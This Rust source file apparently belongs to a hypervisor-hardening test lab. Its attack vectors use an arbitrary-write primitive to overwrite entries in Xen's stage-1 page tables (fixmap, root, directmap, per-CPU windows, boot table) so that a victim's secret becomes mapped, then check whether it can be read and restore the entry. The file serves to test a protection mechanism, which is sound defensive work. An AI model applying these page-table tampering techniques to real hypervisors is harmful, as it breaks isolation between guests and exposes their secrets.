//! V07: writing entries of Xen's stage-1 tables, where they are mapped.

use super::{Attacker, Facts, Level, Outcome, Vector, facts};
use crate::Failure;
use crate::lab::{Lab, Phase};
use crate::memory::PAGE;
use crate::primitive::Stop;
use crate::tables;

/// Slots that Xen leaves alone (asm/mmu/layout.h): of the root, 512 GiB each;
/// of the fixmap; of the directmap's first table.
const ROOT_SLOT: u64 = 40;
const FIXMAP_SLOT: u64 = 300;
const FIXMAP_OFFSET: u64 = 8 << 20;
const DIRECTMAP_SLOT: u64 = 256;
const GIB_SLOT: u64 = 500;
/// Where the windows begin in Xen's root slot, and how large each is.
const WINDOWS: u64 = 2 << 30;
/// Xen's own root slot.
const XEN_SLOT: u64 = 20;

pub fn all() -> Vec<Box<dyn Vector>> {
    vec![
        Box::new(Entry::new(Table::Fixmap)),
        Box::new(Entry::new(Table::Root)),
        Box::new(Entry::new(Table::Directmap)),
        Box::new(Entry::new(Table::Window)),
        Box::new(Boot),
    ]
}

#[derive(Clone, Copy)]
enum Table {
    Fixmap,
    Root,
    Directmap,
    Window,
}

/// Where to write what, and where the secret is then.
#[derive(Clone, Copy)]
struct Plan {
    at: u64,
    entry: u64,
    secret: u64,
}

struct Entry {
    table: Table,
    plan: Option<Plan>,
}

impl Entry {
    fn new(table: Table) -> Self {
        Self { table, plan: None }
    }

    fn prepare(&self, lab: &mut Lab) -> Result<Result<Plan, String>, Failure> {
        let secret = lab.victim().secret.maddr;
        let page = tables::stage1_page(secret);
        Ok(Ok(match self.table {
            Table::Fixmap => Plan {
                at: lab.symbols.symbol("xen_fixmap")? + 8 * FIXMAP_SLOT,
                entry: page,
                secret: lab.symbols.symbol("_start")? + FIXMAP_OFFSET + FIXMAP_SLOT * PAGE,
            },
            Table::Root => Plan {
                at: lab.symbols.symbol("xen_pgtable")? + 8 * ROOT_SLOT,
                entry: tables::table(lab.all_ram.address),
                secret: (ROOT_SLOT << 39) + secret,
            },
            Table::Directmap => {
                let root = lab.symbols.symbol("xen_pgtable")?;
                let first = lab.read(root + 8 * DIRECTMAP_SLOT)? & 0x0000_ffff_ffff_f000;
                Plan {
                    at: lab.directmap_va(first) + 8 * GIB_SLOT,
                    entry: tables::stage1_gib(secret),
                    secret: (DIRECTMAP_SLOT << 39) + (GIB_SLOT << 30) + secret % tables::GIB,
                }
            }
            Table::Window => {
                // A window maps its own tables: vmf_system_slot() says where.
                let slot = lab.symbols.symbol("vmf_system_slot")?;
                let slot = lab.primitive.call(0, slot, &[0])?;
                let base = (XEN_SLOT << 39) + WINDOWS;
                let table = base + slot * PAGE;
                let mut free = None;
                for index in (0..512).rev() {
                    if !tables::is_valid(lab.read(table + 8 * index)?) {
                        free = Some(index);
                        break;
                    }
                }
                let Some(free) = free else {
                    return Ok(Err("CPU 0's window has no free slot".into()));
                };
                Plan {
                    at: table + 8 * free,
                    entry: page,
                    secret: base + free * PAGE,
                }
            }
        }))
    }
}

impl Vector for Entry {
    fn facts(&self) -> Facts {
        let title = match self.table {
            Table::Fixmap => "write an entry of the fixmap's table, in the image",
            Table::Root => {
                "write an entry of the root table, in the image, to a table of one's own"
            }
            Table::Directmap => {
                "write an entry of the directmap's table, allocated at boot, through the directmap"
            }
            Table::Window => "write an entry of a window's table through the window's own slot",
        };
        facts("V07", title, Attacker::L2, Level::Lock)
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        if self.plan.is_none() && lab.phase == Phase::Before {
            self.plan = match self.prepare(lab)? {
                Ok(plan) => Some(plan),
                Err(why) => return Ok(Outcome::Failed(why)),
            };
        }
        let Some(plan) = self.plan else {
            return Ok(Outcome::NotAttempted("it was not reachable before".into()));
        };
        if let Err(stop) = write(lab, plan) {
            return Ok(Outcome::Failed(format!(
                "the table at {:#x}: {stop}",
                plan.at
            )));
        }
        let each = (0..lab.cpus).map(|cpu| lab.secret_on(cpu, plan.secret, "written entry"));
        let outcome = Outcome::every(lab, each.collect());
        lab.primitive.store(0, plan.at, 0)?;
        lab.flush_el2()?;
        Ok(outcome)
    }

    fn touch(&mut self, lab: &mut Lab) -> Result<(), Failure> {
        if let Some(plan) = self.plan {
            // The table, and not what it maps: the entry is gone again.
            for cpu in 0..lab.cpus {
                let _ = lab.primitive.load(cpu, plan.at);
            }
        }
        Ok(())
    }
}

fn write(lab: &Lab, plan: Plan) -> Result<(), Stop> {
    lab.primitive.store(0, plan.at, plan.entry)?;
    // A table walk sees it from the next barrier on.
    match lab.symbols.find("vmf_c_flush_all") {
        Some(flush) => lab.primitive.call(0, flush, &[]).map(drop),
        None => Ok(()),
    }
}

/// Tables of the boot lead nowhere by themselves, but a CPU that comes up, or
/// TTBR0_EL2, could be given them.
struct Boot;

impl Vector for Boot {
    fn facts(&self) -> Facts {
        facts(
            "V07",
            "write an entry of the boot-time root table, in the image (counts when it is written)",
            Attacker::L2,
            Level::Lock,
        )
    }

    fn attempt(&mut self, lab: &mut Lab) -> Result<Outcome, Failure> {
        let at = lab.symbols.symbol("boot_pgtable")? + 8 * ROOT_SLOT;
        let entry = tables::table(lab.all_ram.address);
        let done = lab
            .primitive
            .store(0, at, entry)
            .and_then(|()| lab.read(at));
        Ok(match done {
            Ok(seen) if seen == entry => {
                lab.primitive.store(0, at, 0)?;
                Outcome::Success(format!("{at:#x} was changed and restored"))
            }
            Ok(seen) => Outcome::Failed(format!("{at:#x} holds {seen:#x}")),
            Err(stop) => Outcome::Failed(format!("{at:#x}: {stop}")),
        })
    }
}
